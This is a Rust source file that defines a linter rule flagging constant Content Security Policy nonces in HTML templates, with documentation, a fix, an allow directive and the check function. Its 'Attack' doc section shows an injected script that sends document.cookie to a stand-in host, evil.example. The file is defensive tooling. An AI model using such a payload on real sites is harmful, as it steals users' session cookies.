use crate::lint::page_inline::takes_nonce;
use crate::lint::page_judge::{Nonce, nonce_attribute};
use crate::lint::page_report::{PageContext, PageReport};
use crate::lint::report::lint;
use crate::page::{Event, Finding};

lint! {
    /// # What it does
    ///
    /// Looks for a nonce that is a text of the template, and not printed by an expression.
    ///
    /// # Why it matters
    ///
    /// A nonce is different in each response. A constant one does not match it, so the script does not run. If the policy lists the
    /// same constant, everybody knows it, and the policy stops no injected script.
    ///
    /// # Attack
    ///
    /// The attacker reads the page, and writes the same nonce:
    ///
    /// ```html
    /// <script nonce="r4nd0m">fetch('https://evil.example/?' + document.cookie)</script>
    /// ```
    ///
    /// # Example
    ///
    /// ```html
    /// <script nonce="r4nd0m">start()</script>
    /// ```
    ///
    /// # Fix
    ///
    /// ```html
    /// <script nonce="{{ nonce }}">start()</script>
    /// ```
    ///
    /// # Allow
    ///
    /// ```html
    /// {# security_policy: allow(template_constant_nonce, reason = "the text explains what a nonce is") #}
    /// ```
    ///
    /// Reasonable where a program replaces the text in each response.
    ///
    /// # References
    ///
    /// - [CSP3, section 7.1, nonce reuse](https://w3c.github.io/webappsec-csp/#security-nonces)
    Deny "a nonce that is the same in every response" page,
    cwe [344], asvs ["3.4.3"],
    check
}

fn check(event: &Event<'_>, context: &PageContext<'_>, report: &mut PageReport<'_>) {
    let Event::Start(element) = event else { return };
    // In a response, every nonce is a text.
    if context.nonce.is_none() || !takes_nonce(element) {
        return;
    }
    if let Nonce::Text(attribute, text) = Nonce::of(element, context) {
        let place = attribute.value.as_ref().map_or(attribute.place, |value| value.place);
        report.push(
            Finding::new(place, format!("the nonce `{text}` is the same in every response"))
                .help(format!("write `{}`", nonce_attribute(report.state, context)))
                .note("the nonce of a response is different, so that browsers block the element; an attacker who has seen the page knows a constant one"),
        );
    }
}
